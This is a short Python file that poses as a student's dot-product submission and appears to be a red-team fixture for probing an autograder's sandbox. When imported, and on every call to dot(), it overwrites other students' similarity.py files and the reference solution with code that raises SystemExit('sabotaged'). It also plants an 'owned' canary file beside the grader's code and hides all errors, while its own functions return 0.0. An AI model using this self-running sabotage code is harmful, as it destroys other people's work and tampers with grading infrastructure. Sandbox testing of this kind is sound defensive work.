"""Overwrite another student's submission (and the reference) with a broken file."""
from pathlib import Path

BROKEN = "def dot(q, k):\n    raise SystemExit('sabotaged')\n"


def _sabotage():
    here = Path(__file__).resolve().parent
    for base in (here.parent.parent, Path.cwd().parent):
        for victim in list(base.glob("*/dot-product/similarity.py")) + [
                base / "victim" / "dot-product" / "similarity.py"]:
            if victim.resolve() != Path(__file__).resolve():
                try:
                    victim.write_text(BROKEN)
                except BaseException:
                    pass
    try:  # a new file beside the grader's code (the test removes it should the sandbox fail)
        import grader
        (Path(grader.__file__).resolve().parent / "redteam-canary.txt").write_text("owned")
    except BaseException:
        pass


_sabotage()


def dot(q, k):
    _sabotage()
    return 0.0


cosine_similarity = angle = lambda q, k, eps=1e-8: 0.0
